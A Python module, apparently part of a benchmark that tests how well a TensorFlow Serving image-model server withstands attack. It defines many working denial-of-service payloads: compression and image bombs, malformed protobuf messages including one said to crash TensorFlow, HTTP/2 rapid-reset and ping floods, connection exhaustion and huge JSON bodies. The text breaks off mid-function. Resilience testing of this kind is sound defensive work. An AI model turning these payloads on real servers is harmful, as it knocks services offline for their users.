"""The attacks of `serving_attacks.py`: each a way to send little and take much.

An attack is called again and again while it lasts, from some threads at a time, and says in a word
how it was answered. They are of every kind that `serving/README.md` says the server withstands.
"""

from __future__ import annotations

import functools
import gzip
import http.client
import json
import os
import socket
import struct
import threading
import time
import zlib
from base64 import b64encode
from collections.abc import Callable, Iterator
from contextlib import ExitStack, closing, suppress
from dataclasses import dataclass, field
from typing import Any

import grpc

from benchmarks import attack_bombs as bombs
from benchmarks.attack_http2 import Connection
from inception_serving import messages

_PREDICTIONS = "/tensorflow.serving.PredictionService"
_MODELS = "/tensorflow.serving.ModelService"
_PREDICT = f"{_PREDICTIONS}/Predict"
_TIMEOUT_S = 30
_GZIP_SENT = {"Content-Encoding": "gzip"}
_FLOAT, _UINT8, _STRING, _INT32, _INT64 = 1, 4, 7, 3, 9


@dataclass
class Target:
    """A server of one model of images, as an export has it: `serving_default` reads `image_bytes`,
    `predict_images` reads `images`, `classify` reads tf.Examples.

    Attributes:
        address, rest: where gRPC and REST answer, such as "127.0.0.1:8501".
        model: its name.
        image: one that it answers.
    """

    address: str
    rest: str
    model: str
    image: bytes
    channels: dict[str, Any] = field(default_factory=dict)

    def call(self, method: str, data: bytes, *, compression: Any = None) -> str:
        """Call a method with a message's bytes; the name of the status."""
        options = [("grpc.max_send_message_length", -1), ("grpc.max_receive_message_length", -1)]
        key = f"{compression}"
        if key not in self.channels:
            self.channels[key] = grpc.insecure_channel(self.address, options, compression)
        try:
            self.channels[key].unary_unary(method)(data, timeout=_TIMEOUT_S)
        except grpc.RpcError as error:
            return str(error.code().name)
        return "OK"

    def predict(self, signature: str, name: str, tensor: bytes) -> str:
        inputs = bombs.tensor_input(name.encode(), tensor)
        return self.call(_PREDICT, bombs.predict(self.model.encode(), signature.encode(), inputs))

    def images(self, shape: tuple[int, ...], values: bytes = b"\x3a\1\1") -> str:
        """`predict_images` of decoded images; by default all of one value, in one byte."""
        return self.predict("predict_images", "images", _bomb("tensor", _UINT8, shape, values))

    def image_bytes(self, *strings: bytes, shape: list[int] | None = None) -> str:
        values = b"".join(bombs.part(8, string) for string in strings)
        tensor = bombs.tensor(_STRING, [len(strings)] if shape is None else shape, values)
        return self.predict("serving_default", "image_bytes", tensor)

    def examples(self, *examples: bytes) -> str:
        values = b"".join(bombs.part(8, string) for string in examples)
        return self.predict("classify", "inputs", bombs.tensor(_STRING, [len(examples)], values))

    def classify(self, examples: bytes, *, kind: int = 1) -> str:
        """The Classify method; `examples` is an ExampleList, or with 2 one with a context."""
        spec = bombs.part(1, bombs.part(1, self.model.encode()) + bombs.part(3, b"classify"))
        return self.call(
            f"{_PREDICTIONS}/Classify", spec + bombs.part(2, bombs.part(kind, examples))
        )

    def post(self, body: bytes, *, headers: dict[str, str] | None = None, verb: str = "") -> str:
        path = verb or f"/v1/models/{self.model}:predict"
        with closing(http.client.HTTPConnection(self.rest, timeout=_TIMEOUT_S)) as connection:
            connection.request("POST", path, body, headers or {})
            response = connection.getresponse()
            response.read()
        return str(response.status)

    def raw(self, data: bytes, *, wait_s: float = 5.0, port: str = "") -> str:
        """Bytes on a connection to REST; the first word after the version of what comes back."""
        host, _, number = (port or self.rest).rpartition(":")
        with closing(socket.create_connection((host, int(number)), timeout=wait_s)) as client:
            with suppress(OSError):
                client.sendall(data)
            try:
                answer = client.recv(4096)
            except TimeoutError:
                return "waits"
            except OSError:
                return "closed"
        return answer.split(b" ")[1].decode() if answer.startswith(b"HTTP/") else "closed"


Attack = Callable[[Target], str]


@dataclass(frozen=True)
class Named:
    """An attack, with its kind and how many threads call it."""

    run: Attack
    kind: str
    threads: int


ATTACKS: dict[str, Named] = {}


def attack(kind: str, threads: int = 2) -> Callable[[Attack], Attack]:
    def add(run: Attack) -> Attack:
        ATTACKS[run.__name__] = Named(run, kind, threads)
        return run

    return add


def _add(name: str, kind: str, run: Attack, threads: int = 2) -> None:
    ATTACKS[name] = Named(run, kind, threads)


@functools.cache
def _bomb(kind: str, *arguments: Any) -> bytes:
    """A bomb that is made once."""
    return bytes(getattr(bombs, kind)(*arguments))


# ---- tensors ----

for _name, _shape in {
    "dims_20000": [2**62] * 20000,
    "dims_300_of_1": [1] * 300,
    "dims_254_of_max": [2**63 - 1] * 254,
    "dims_then_zero": [2**40, 2**40, 0],
    "rows_600000_of_a_pixel": [600_000, 1, 1, 3],
    "rows_2000_of_a_pixel": [2_000, 1, 1, 3],
    "wide_image": [1, 1, 20_000_000, 3],
    "tall_image": [1, 20_000_000, 1, 3],
    "large_image": [1, 20_000, 20_000, 3],
    "many_wide_images": [100, 1, 30_000, 3],
    "images_of_400_pixels": [100, 400, 400, 3],
}.items():
    _add(_name, "tensors", lambda target, shape=tuple(_shape): target.images(shape))  # type: ignore[misc]


@attack("tensors", threads=32)
def rows_240_of_a_pixel(target: Target) -> str:
    """Of which several may run at a time, for a long time: of a hundred bytes each."""
    return target.images((240, 1, 1, 3))


@attack("tensors")
def repeated_float(target: Target) -> str:
    tensor = bombs.tensor(_FLOAT, [2**28], b"\x2d" + struct.pack("<f", 1))
    return target.predict("predict_images", "images", tensor)


@attack("tensors")
def repeated_string(target: Target) -> str:
    return target.image_bytes(_bomb("encoded", "JPEG", 1000, 1000) + bytes(1 << 20), shape=[9000])


@attack("tensors")
def repeated_image(target: Target) -> str:
    """An honest image, very often."""
    return target.image_bytes(target.image, shape=[20_000])


@attack("tensors")
def million_empty_strings(target: Target) -> str:
    return target.image_bytes(shape=[1 << 20])


@attack("tensors")
def hundred_million_strings(target: Target) -> str:
    return target.image_bytes(shape=[100_000_000])


@attack("tensors")
def strings_on_the_wire(target: Target) -> str:
    return target.predict(
        "serving_default", "image_bytes", _bomb("tensor", _STRING, (1,), b"\x42\0" * 10_000_000)
    )


@attack("tensors")
def packed_int64(target: Target) -> str:
    return target.predict(
        "predict_images", "images", _bomb("tensor", _INT64, (1,), bombs.part(10, bytes(60_000_000)))
    )


@attack("tensors")
def endless_varint(target: Target) -> str:
    content = bombs.part(4, b"\xff" * 2_000_000 + b"\1")
    return target.predict("serving_default", "image_bytes", bombs.tensor(_STRING, [1], content))


@attack("tensors")
def lengths_of_strings(target: Target) -> str:
    content = bombs.part(4, bytes(1 << 20))
    return target.predict(
        "serving_default", "image_bytes", bombs.tensor(_STRING, [1 << 20], content)
    )


@attack("tensors")
def dims_on_the_wire(target: Target) -> str:
    tensor = b"\x08\4" + bombs.part(2, b"\x12\0" * 10_000_000)
    return target.predict("predict_images", "images", tensor)


@attack("tensors")
def packed_integers(target: Target) -> str:
    tensor = bombs.tensor(_INT32, [1], bombs.part(7, bytes(50_000_000)))
    return target.predict("predict_images", "images", tensor)


@attack("tensors")
def unpacked_integers(target: Target) -> str:
    tensor = bombs.tensor(_INT32, [1], b"\x38\0" * 20_000_000)
    return target.predict("predict_images", "images", tensor)


@attack("tensors")
def nested_variants(target: Target) -> str:
    tensor = b""
    for _ in range(90):
        tensor = bombs.part(15, bombs.part(3, tensor))
    return target.predict("predict_images", "images", tensor * 1000)


@attack("tensors")
def many_inputs(target: Target) -> str:
    inputs = b"".join(bombs.tensor_input(b"%d" % number, b"") for number in range(300_000))
    return target.call(_PREDICT, bombs.predict(target.model.encode(), b"", inputs))


@attack("tensors")
def many_outputs(target: Target) -> str:
    return target.call(_PREDICT, bombs.predict(target.model.encode(), b"", b"\x1a\1x" * 5_000_000))


@attack("tensors")
def content_of_100_mb(target: Target) -> str:
    return target.images((1, 1, 1, 3), bombs.part(4, bytes(100_000_000)))


# ---- images ----

_CODED: dict[str, tuple[str, tuple[Any, ...]]] = {
    "png_of_400_megapixels": ("png", (20_000, 20_000)),
    "png_of_64_megapixels": ("png", (8_000, 8_000)),
    "png_of_one_row": ("png", (900_000, 1)),
    "jpeg_of_250_megapixels": ("encoded", ("JPEG", 25_000, 10_000)),
    "jpeg_of_64_megapixels": ("encoded", ("JPEG", 8_000, 8_000)),
    "jpeg_of_4000_scans": ("progressive_jpeg", (8_000, 8_000, 4_000)),
    "jpeg_of_60_scans": ("progressive_jpeg", (8_000, 8_000, 60)),
    "small_jpeg_of_100000_scans": ("progressive_jpeg", (8, 8, 100_000)),
    "gif_beyond_its_screen": ("gif", (46_000, 46_000)),
    "gif_of_64_megapixels": ("gif", (8_000, 8_000)),
    "bmp_of_much": ("bmp", (30_000, -30_000)),
    "webp_of_much": ("webp", (1 << 24, 1 << 24)),
}
for _name, (_kind, _arguments) in _CODED.items():
    _add(
        _name,
        "images",
        lambda target, kind=_kind, arguments=_arguments: target.image_bytes(  # type: ignore[misc]
            _bomb(kind, *arguments)
        ),
    )


@attack("images")
def png_with_a_chunk_before_its_header(target: Target) -> str:
    before = bombs.png_chunk(b"teSt", struct.pack(">II", 8, 8) + bytes(5))
    image = _bomb("png", 20_000, 20_000).replace(bombs.PNG_START, bombs.PNG_START + before, 1)
    return target.image_bytes(image)


@attack("images")
def jpeg_with_bytes_before_its_frame(target: Target) -> str:
    image = _bomb("encoded", "JPEG", 25_000, 10_000)
    return target.image_bytes(image[:2] + b"\xff\xe0\0\2" + b"\0" * 1000 + image[2:])


@attack("images")
def jpeg_of_many_segments(target: Target) -> str:
    image = _bomb("encoded", "JPEG", 25_000, 10_000)
    return target.image_bytes(image[:2] + b"\xff\xfe\0\2" * 500_000 + image[2:])


@attack("images")
def jpeg_of_padding(target: Target) -> str:
    return target.image_bytes(b"\xff\xd8" + b"\xff" * 10_000_000 + b"\0" * 100)


@attack("images")
def gif_of_many_frames(target: Target) -> str:
    return target.image_bytes(_gif_frames(1000, 1000, 300))


@functools.cache
def _gif_frames(width: int, height: int, frames: int) -> bytes:
    return bombs.gif(width, height, frames=frames)


@attack("images")
def gif_of_small_blocks(target: Target) -> str:
    return target.image_bytes(bombs.gif(1, 1)[:-1] + b"!\xfe" + b"\1\0" * 10_000_000)


@attack("images")
def webp_with_frames(target: Target) -> str:
    return target.image_bytes(bombs.webp(100, 100, flags=2))


@attack("images")
def webp_of_no_kind(target: Target) -> str:
    return target.image_bytes(bombs.webp(100, 100, kind=b"VP8Z"))


@attack("images")
def jpeg_xl(target: Target) -> str:
    return target.image_bytes(b"\xff\x0a" + os.urandom(1000))


@attack("images")
def sixteen_photos(target: Target) -> str:
    return target.image_bytes(*[_bomb("encoded", "JPEG", 4000, 3000)] * 16)


@attack("images", threads=8)
def large_images_side_by_side(target: Target) -> str:
    return target.image_bytes(_bomb("encoded", "JPEG", 8000, 8000))


@attack("images")
def thousand_small_images(target: Target) -> str:
    return target.image_bytes(*[target.image] * 1000)


@attack("images")
def ten_thousand_small_images(target: Target) -> str:
    return target.image_bytes(*[target.image] * 10_000)


@attack("images")
def gif_in_an_example(target: Target) -> str:
    return target.examples(bombs.example(_bomb("gif", 46_000, 46_000)))


@attack("images")
def png_in_an_example_behind_a_bmp(target: Target) -> str:
    """What begins as BMP is a field to a parser, which skips it."""
    bmp = b"BM" + bytes(16) + struct.pack("<ii", 8, 8) + bytes(53)
    return target.examples(bmp + bombs.example(_bomb("png", 20_000, 20_000)))


@attack("example", threads=4)
def png_in_an_example_beyond_its_end(target: Target) -> str:
    """TensorFlow reads a message that says it is longer than it is; other parsers do not."""
    entry = bombs.feature(b"image/encoded", _bomb("png", 20_000, 20_000))
    return target.examples(bombs.varint(1 << 3 | 2) + bombs.varint(1 << 30) + entry)


@attack("example")
def example_of_a_negative_size(target: Target) -> str:
    """60 bytes, at which TensorFlow ends by SIGSEGV."""
    value = bombs.varint(1 << 3 | 2) + bombs.varint(1 << 31) + bytes(50)
    entry = bombs.part(1, b"image/encoded") + bombs.part(2, bombs.part(1, value))
    return target.examples(bombs.part(1, bombs.part(1, entry)))


@attack("images")
def example_with_a_name_that_is_no_text(target: Target) -> str:
    odd = bombs.feature(b"\xff\xfe", b"x")
    return target.examples(bombs.example(_bomb("png", 20_000, 20_000), after=odd))


@attack("images")
def example_with_a_feature_twice(target: Target) -> str:
    small = bombs.feature(b"image/encoded", target.image)
    return target.examples(bombs.example(_bomb("png", 20_000, 20_000), after=small))


@attack("images")
def example_behind_unknown_fields(target: Target) -> str:
    return target.examples(b"\x7a\0" * 1000 + bombs.example(_bomb("png", 20_000, 20_000)))


@attack("images")
def sequence_example(target: Target) -> str:
    return target.examples(bombs.sequence_example(_bomb("png", 20_000, 20_000)))


@attack("images")
def example_of_many_features(target: Target) -> str:
    return target.examples(bombs.part(1, b"\x0a\0" * 5_000_000))


@attack("images")
def examples_on_the_wire(target: Target) -> str:
    return target.classify(b"\x0a\0" * 5_000_000)


@attack("images")
def a_context_of_many_examples(target: Target) -> str:
    """Which TensorFlow copies into each of them."""
    value = bombs.part(1, bombs.part(1, bytes(5 << 20)))
    context = bombs.part(1, bombs.part(1, bombs.part(1, b"x") + bombs.part(2, value)))
    return target.classify(bombs.part(1, b"") * 1_000 + bombs.part(2, context), kind=2)


@attack("images")
def png_of_100_texts(target: Target) -> str:
    return target.image_bytes(_png_of_texts())


@functools.cache
def _png_of_texts() -> bytes:
    text = bombs.png_chunk(b"zTXt", b"x\0\0" + zlib.compress(bytes(8_000_000), 9))
    image = bombs.png(100, 100)
    return image[:33] + text * 100 + image[33:]  # behind the header


@attack("images")
def classify_a_bomb(target: Target) -> str:
    return target.classify(bombs.part(1, bombs.example(_bomb("png", 20_000, 20_000))))


@attack("images", threads=8)
def jpegs_of_empty_segments(target: Target) -> str:
    jpeg = b"\xff\xd8" + b"\xff\xe0\0\2" * 4091
    return target.image_bytes(*[jpeg] * 6)


@attack("tensors", threads=8)
def empty_strings_in_a_content(target: Target) -> str:
    """As many as their content has bytes."""
    tensor = bombs.tensor(_STRING, [60_000], bombs.part(4, bytes(60_000)))
    return target.predict("serving_default", "image_bytes", tensor)


# ---- gRPC's transport ----


@attack("grpc")
def gzip_of_600_mb(target: Target) -> str:
    return target.call(_PREDICT, bytes(600 << 20), compression=grpc.Compression.Gzip)


@attack("grpc", threads=4)
def gzip_of_100_mb(target: Target) -> str:
    return target.call(_PREDICT, bytes(100 << 20), compression=grpc.Compression.Gzip)


_DEFLATING = threading.Lock()


@functools.cache
def _zeros(size: int) -> bytes:
    deflater = zlib.compressobj(1, wbits=31)
    parts = [deflater.compress(bytes(1 << 20)) for _ in range(size >> 20)]
    return b"".join([*parts, deflater.flush()])


@attack("grpc", threads=16)
def gzip_of_100_mb_made_before(target: Target) -> str:
    """As `gzip_of_100_mb`, but the attackers take no processor time for it."""
    with _DEFLATING:
        data = _zeros(100 << 20)
    return _send_gzip(target, _PREDICT, data)


@attack("grpc", threads=4)
def gzip_of_2_gb_made_before(target: Target) -> str:
    with _DEFLATING:
        data = _zeros(2 << 30)
    return _send_gzip(target, _PREDICT, data)


# Eight blocks of nothing (RFC 1951, 3.2.7), each with a code of 255 symbols: zlib reads 5 MB of
# them a second, and makes no byte of it.
_BLOCKS = bytes.fromhex(
    "04400268bb6ddbb66ddbb66ddbb66ddbb66ddbb6fd5a00022001b4ddb66ddbb66ddbb66ddbb66ddbb66ddb7e2d00"
    "019000da6edbb66ddbb66ddbb66ddbb66ddbb66dbf16800048006db76ddbb66ddbb66ddbb66ddbb66ddbb65f0b40"
    "002480b6dbb66ddbb66ddbb66ddbb66ddbb66ddbaf0520001240db6ddbb66ddbb66ddbb66ddbb66ddbb6edd70210"
    "0009a0edb66ddbb66ddbb66ddbb66ddbb66ddbf66b01088004d076dbb66ddbb66ddbb66ddbb66ddbb66dfbb500"
)


@functools.cache
def _slow_gzip(size: int) -> bytes:
    head = b"\x1f\x8b\x08\0\0\0\0\0\0\xff"
    return head + _BLOCKS * (size // len(_BLOCKS)) + b"\3\0" + bytes(8)


@attack("grpc", threads=8)
def slow_gzip_of_60_mb(target: Target) -> str:
    return _send_gzip(target, _PREDICT, _slow_gzip(60 << 20))


@attack("grpc", threads=32)
def slow_gzip_of_4_mb(target: Target) -> str:
    return _send_gzip(target, _PREDICT, _slow_gzip(4 << 20))


@attack("grpc", threads=64)
def slow_gzip_of_400_kb(target: Target) -> str:
    return _send_gzip(target, _PREDICT, _slow_gzip(400 << 10))


@attack("grpc", threads=40)
def slow_gzip_for_health(target: Target) -> str:
    return _send_gzip(target, "/grpc.health.v1.Health/Check", _slow_gzip(60 << 20))


@attack("grpc", threads=16)
def gzip_taken_back(target: Target) -> str:
    with _DEFLATING:
        data = _zeros(60 << 20)
    return _send_gzip(target, _PREDICT, data, wait_s=0.02)


def _send_gzip(target: Target, method: str, data: bytes, *, wait_s: float = _TIMEOUT_S) -> str:
    connection = Connection(target.address)
    try:
        stream = connection.begin(method, grpc_encoding="gzip")
        connection.send(stream, b"\1" + struct.pack(">I", len(data)) + data)
        answered = connection.finish(stream, wait_s=wait_s)
    finally:
        connection.close()
    return "answered" if answered else "not answered"


@attack("grpc", threads=8)
def messages_of_100_mb(target: Target) -> str:
    return target.call(_PREDICT, bytes(100 << 20))


@attack("grpc", threads=8)
def messages_of_60_mb(target: Target) -> str:
    return target.call(_PREDICT, bytes(60 << 20))


@attack("grpc")
def message_of_600_mb(target: Target) -> str:
    return target.call(_PREDICT, bytes(600 << 20))


@attack("grpc", threads=1)
def halves_of_messages(target: Target) -> str:
    """32 connections, each with a message of 100 MB of which the end never comes."""
    head = b"\0" + struct.pack(">I", 100 << 20)
    connections = [Connection(target.address) for _ in range(32)]
    part = bytes(1 << 20)
    calls = [(each, each.begin(_PREDICT)) for each in connections]
    for each, stream in calls:
        each.send(stream, head)
    for _ in range(95):
        for each, stream in calls:
            each.send(stream, part, wait_s=0.2)
    for each in connections:
        each.close()
    return "half"


def _open_halves(
    target: Target, connections: int, calls: int, path: str = _PREDICT
) -> list[Connection]:
    opened = [Connection(target.address) for _ in range(connections)]
    for each in opened:
        for _ in range(calls):
            with suppress(OSError):
                each.begin(path)
    time.sleep(3)
    return opened


def _half_open(target: Target, connections: int, calls: int, path: str = _PREDICT) -> str:
    opened = _open_halves(target, connections, calls, path)
    for each in opened:
        each.close()
    return "no message"


@attack("grpc", threads=1)
def calls_without_a_message(target: Target) -> str:
    return _half_open(target, 1, 1024)


@attack("grpc", threads=1)
def calls_without_a_message_on_many_connections(target: Target) -> str:
    return _half_open(target, 100, 100)


_KEPT: list[Connection] = []


@attack("grpc", threads=1)
def more_and_more_calls_without_a_message(target: Target) -> str:
    _KEPT.extend(_open_halves(target, 100, 100))
    return "no message"


@attack("grpc", threads=1)
def health_without_a_message(target: Target) -> str:
    return _half_open(target, 4, 100, "/grpc.health.v1.Health/Check")


@attack("grpc", threads=1)
def watches_without_a_message(target: Target) -> str:
    return _half_open(target, 4, 100, "/grpc.health.v1.Health/Watch")


@attack("grpc", threads=1)
def a_watch_of_no_service(target: Target) -> str:
    """One that is left open, which may not put off the server's end."""
    connection = Connection(target.address)
    service = bombs.part(1, b"nobody")
    message = b"\0" + struct.pack(">I", len(service)) + service
    connection.send(connection.begin("/grpc.health.v1.Health/Watch"), message)
    time.sleep(_TIMEOUT_S)
    connection.close()
    return "watched"


@attack("grpc", threads=1)
def calls_of_many_fields_of_one_connection(target: Target) -> str:
    """32 of 300 bytes, each of which takes a quarter of a second to look through."""
    data = _gzip_of_fields()
    connection = Connection(target.address)
    streams = [connection.begin(_PREDICT, grpc_encoding="gzip") for _ in range(32)]
    for stream in streams:
        connection.send(stream, b"\1" + struct.pack(">I", len(data)) + data)
    ended = [connection.finish(stream, wait_s=_TIMEOUT_S) for stream in streams]
    connection.close()
    return "answered" if all(ended) else "waits"


@functools.cache
def _gzip_of_fields() -> bytes:
    return gzip.compress(b"\x7a\0" * 131_000)


@attack("grpc", threads=16)
def inputs_of_nothing(target: Target) -> str:
    """4,900 in less than 64 KB."""
    return target.call(_PREDICT, _nothings())


@attack("grpc", threads=1)
def inputs_of_nothing_on_many_connections(target: Target) -> str:
    """More calls than may be under way at a time."""
    data = gzip.compress(_nothings())
    opened = [Connection(target.address) for _ in range(36)]
    calls = [(each, each.begin(_PREDICT, grpc_encoding="gzip")) for each in opened * 32]
    for connection, stream in calls:
        connection.send(stream, b"\1" + struct.pack(">I", len(data)) + data)
    ended = [connection.finish(stream, wait_s=_TIMEOUT_S) for connection, stream in calls]
    for each in opened:
        each.close()
    return "answered" if any(ended) else "waits"


@functools.cache
def _nothings() -> bytes:
    tensor = bombs.tensor(_FLOAT, [])
    inputs = b"".join(bombs.tensor_input(b"%d" % number, tensor) for number in range(4900))
    return bombs.predict(b"digits", b"", inputs)


@attack("grpc", threads=8)
def a_million_empty_strings(target: Target) -> str:
    """By their shape alone, in less than 100 bytes."""
    return target.image_bytes(shape=[1 << 20])


@attack("grpc")
def an_input_name_of_60_mb(target: Target) -> str:
    """58 KB, and four bytes a letter as Python's text."""
    return _send_gzip(target, _PREDICT, _gzip_of_a_name())


@functools.cache
def _gzip_of_a_name() -> bytes:
    name = b"a" * 60_000_000 + "\U0001f600".encode()
    return gzip.compress(bombs.predict(b"m", b"", bombs.tensor_input(name, b"")))


@attack("grpc", threads=4)
def a_group_before_many_inputs(target: Target) -> str:
    """59 KB: an unknown group, which parsers skip, and 60 MB of inputs without name and value."""
    return _send_gzip(target, _PREDICT, _gzip_of_inputs(b"\x7b\x7c", b""))


@attack("grpc", threads=4)
def many_inputs_before_a_malformed_one(target: Target) -> str:
    """Parsers make the others before they come to it."""
    return _send_gzip(target, _PREDICT, _gzip_of_inputs(b"", b"\x12\x01\xff"))


@functools.cache
def _gzip_of_inputs(before: bytes, behind: bytes) -> bytes:
    return gzip.compress(before + b"\x12\0" * (29 << 20) + behind)


@attack("grpc", threads=1)
def statuses_that_nobody_takes(target: Target) -> str:
    """32 calls of each of 500 connections, none of whose small answers may be sent."""
    opened = [Connection(target.address, takes_messages=False) for _ in range(500)]
    data = bombs.part(1, bombs.part(1, target.model.encode()))
    for each in opened:
        for _ in range(32):
            stream = each.begin("/tensorflow.serving.ModelService/GetModelStatus")
            each.send(stream, b"\0" + struct.pack(">I", len(data)) + data)
        time.sleep(0.004)  # or it would be a flood of calls, which is another attack
    time.sleep(2)
    for each in opened:
        each.close()
    return "untaken"


@attack("grpc", threads=1)
def watches_that_take_nothing(target: Target) -> str:
    opened = [Connection(target.address, takes_messages=False) for _ in range(4)]
    for each in opened:
        for _ in range(32):
            each.send(each.begin("/grpc.health.v1.Health/Watch"), bytes(5))
    time.sleep(3)
    for each in opened:
        each.close()
    return "untaken"


@attack("grpc", threads=1)
def calls_of_no_method(target: Target) -> str:
    return _half_open(target, 10, 100, "/a.B/C")


def _flood(target: Target, send: Callable[[Connection], None]) -> str:
    """A second of frames, as fast as the server reads them."""
    connection = Connection(target.address)
    end = time.monotonic() + 1
    try:
        while connection.is_open and time.monotonic() < end:
            send(connection)
    finally:
        connection.close()
    return "flood"


@attack("grpc")
def calls_taken_back(target: Target) -> str:
    """HEADERS and RST_STREAM in turn, CVE-2023-44487."""
    return _flood(target, lambda each: each.begin_and_reset(_PREDICT, 50))


@attack("grpc", threads=1)
def a_flood_of_pings(target: Target) -> str:
    return _flood(target, lambda each: each.ping(1000))


@attack("grpc", threads=1)
def a_flood_of_settings(target: Target) -> str:
    return _flood(target, lambda each: each.settings(1000))


@attack("grpc", threads=1)
def idle_connections(target: Target) -> str:
    host, _, port = target.address.rpartition(":")
    clients = [socket.create_connection((host, int(port))) for _ in range(1500)]
    time.sleep(3)
    for client in clients:
        client.close()
    return "idle"


@attack("grpc")
def another_protocol(target: Target) -> str:
    return target.raw(b"GET / HTTP/1.1\r\n\r\n", port=target.address)


@attack("grpc", threads=4)
def bytes_that_are_no_message(target: Target) -> str:
    return target.call(_PREDICT, b"\xff" * 1000)


@attack("grpc", threads=4)
def unknown_methods(target: Target) -> str:
    return target.call("/tensorflow.serving.PredictionService/Nothing", b"")


@attack("grpc", threads=4)
def models_that_are_not_there(target: Target) -> str:
    return target.call(_PREDICT, bombs.predict(os.urandom(8).hex().encode(), b"", b""))


@attack("grpc")
def reload_to_nothing(target: Target) -> str:
    request = messages.ReloadConfigRequest()
    request.config.model_config_list.SetInParent()
    return target.call(f"{_MODELS}/HandleReloadConfigRequest", request.SerializeToString())


# ---- REST's transport, and its bodies ----


def _rows(text: str) -> bytes:
    return f'{{"instances": {text}}}'.encode()


@attack("json")
def error_that_quotes_nested_lists(target: Target) -> str:
    nested = b"[" * 900 + b"1," * 99_999 + b"1" + b"]" * 900
    return target.post(b'{"inputs":1,"instances":' + nested + b"}")


@attack("json")
def a_million_brackets(target: Target) -> str:
    return target.post(b"[" * 1_000_000)


@attack("json")
def lists_of_nothing(target: Target) -> str:
    return target.post(_rows("[" + "[]," * 5_000_000 + "[]]"))


@attack("json")
def objects_of_nothing(target: Target) -> str:
    return target.post(_rows("[" + "{}," * 5_000_000 + "{}]"))


@attack("json")
def floats_in_json(target: Target) -> str:
    return target.post(_rows("[" + "0.5," * 4_000_000 + "0.5]"))


@attack("json")
def long_integers(target: Target) -> str:
    return target.post(_rows("[" + "9" * 1_000_000 + "]"))


@attack("json")
def many_keys(target: Target) -> str:
    keys = ",".join(f'"{number}":1' for number in range(1_000_000))
    return target.post(f"{{{keys}}}".encode())


@attack("json")
def surrogates(target: Target) -> str:
    return target.post(_rows('["' + "\\ud800" * 1_000_000 + '"]'))


@attack("json")
def surrogate_pairs(target: Target) -> str:
    return target.post(_rows('["' + "\\ud83d\\ude00" * 1_600_000 + '"]'))


@attack("json")
def a_signature_of_8_million_letters(target: Target) -> str:
    """16 KB, and an error that names it."""
    return target.post(_long_signature(), headers=_GZIP_SENT)


@functools.cache
def _long_signature() -> bytes:
    name = "é".encode() * 8_000_000
    return gzip.compress(b'{"signature_name": "' + name + b'", "instances": [1]}')


@attack("json")
def examples_of_4_million_features(target: Target) -> str:
    verb = f"/v1/models/{target.model}:classify"
    return target.post(_many_features(), verb=verb, headers=_GZIP_SENT)


@functools.cache
def _many_features() -> bytes:
    features = ",".join(f'"{number}":1' for number in range(1_000_000))
    return gzip.compress(f'{{"examples": [{",".join([f"{{{features}}}"] * 4)}]}}'.encode(), 1)


@attack("json", threads=16)
def a_feature_of_a_million_numbers(target: Target) -> str:
    verb = f"/v1/models/{target.model}:classify"
    return target.post(_many_numbers(), verb=verb, headers=_GZIP_SENT)


@functools.cache
def _many_numbers() -> bytes:
    return gzip.compress(b'{"examples": [{"a": [' + b"0.1," * 1_000_000 + b"1]}]}")


@attack("json", threads=8)
def escapes_before_a_wrong_number(target: Target) -> str:
    """129 bytes, whose 32,700 escapes are read once more to tell where the error is."""
    verb = f"/v1/models/{target.model}:classify"
    return target.post(_escapes_and_an_exponent(), verb=verb, headers=_GZIP_SENT)


@functools.cache
def _escapes_and_an_exponent() -> bytes:
    return gzip.compress(b'{"examples":[{"a":"' + b"\\n" * 32_700 + b'e999"}]}')


@attack("json", threads=8)
def rows_before_a_wrong_one(target: Target) -> str:
    return target.post(_rows_and_a_text(15_000, 0), headers=_GZIP_SENT)


@attack("json", threads=10)
def rows_that_take_all_memory_for_reading(target: Target) -> str:
    """Each as much as it may, to the byte: four leave no room."""
    return target.post(_rows_and_a_text(786_332, 6_021), headers=_GZIP_SENT)


@attack("json", threads=1)
def rows_before_wrong_ones_on_many_connections(target: Target) -> str:
    """More bodies that take long to read than there are threads."""
    body = _rows_and_a_text(15_000, 0)
    head = f"POST /v1/models/{target.model}:predict HTTP/1.1\r\nHost: localhost\r\n"
    head += f"Content-Encoding: gzip\r\nContent-Length: {len(body)}\r\n\r\n"
    host, _, number = target.rest.rpartition(":")
    with ExitStack() as opened:
        clients = []
        for _ in range(1100):
            client = socket.create_connection((host, int(number)), timeout=_TIMEOUT_S)
            clients.append(opened.enter_context(closing(client)))
            with suppress(OSError):
                client.sendall(head.encode() + body)
        for client in clients:
            with suppress(OSError):
                client.recv(4096)
    return "answered"


@functools.cache
def _rows_and_a_text(count: int, blanks: int) -> bytes:
    rows = b"[1]," * count + b'["x"]]}' + b" " * blanks
    return gzip.compress(b'{"signature_name":"predict_images","instances":[' + rows, 1)


@attack("json")
def a_long_text_in_an_error(target: Target) -> str:
    return target.post(_a_wide_text(), headers=_GZIP_SENT)


@functools.cache
def _a_wide_text() -> bytes:
    text = b"a" * 47_000_000 + "\U0001f600".encode()
    return gzip.compress(b'{"signature_name":"predict_images","instances":["' + text + b'"]}', 1)


@attack("json", threads=8)
def objects_with_a_key_twice(target: Target) -> str:
    """15 KB, of which each object takes some hundreds of bytes once it is read."""
    return target.post(_keys_twice(), headers=_GZIP_SENT)


@functools.cache
def _keys_twice() -> bytes:
    return gzip.compress(_rows('[{"":0,"":0}' + ',{"":0,"":0}' * 650_000 + "]"))


@attack("json")
def escapes_of_60_mb(target: Target) -> str:
    return target.post(_many_escapes(), headers=_GZIP_SENT)


@functools.cache
def _many_escapes() -> bytes:
    return gzip.compress(_rows('["' + "\\n" * 30_000_000 + '"]'))


@attack("json")
def a_body_of_200_mb(target: Target) -> str:
    return target.post(b" " * 200_000_000)


@attack("json")
def base64_of_60_mb(target: Target) -> str:
    return target.post(_rows('[{"b64": "' + "A" * 60_000_000 + '"}]'))


@attack("json")
def base64_with_blanks(target: Target) -> str:
    return target.post(_rows('[{"b64": "A' + " " * 60_000 + '!"}]'))


@attack("json", threads=16)
def an_error_at_the_end(target: Target) -> str:
    return target.post(_rows("[" + "0.5," * 64_000 + "x]"))


@attack("json")
def integers_of_400_digits(target: Target) -> str:
    return target.post(_rows("[" + ",".join(["9" * 400] * 5_000) + "]"))


@attack("json")
def png_in_json(target: Target) -> str:
    image = b64encode(_bomb("png", 20_000, 20_000)).decode()
    return target.post(json.dumps({"instances": [{"b64": image}]}).encode())


@functools.cache
def _gzip(size: int) -> bytes:
    return gzip.compress(b'{"instances": [' + b" " * size + b"1]}")


@attack("json")
def gzip_body_of_90_mb(target: Target) -> str:
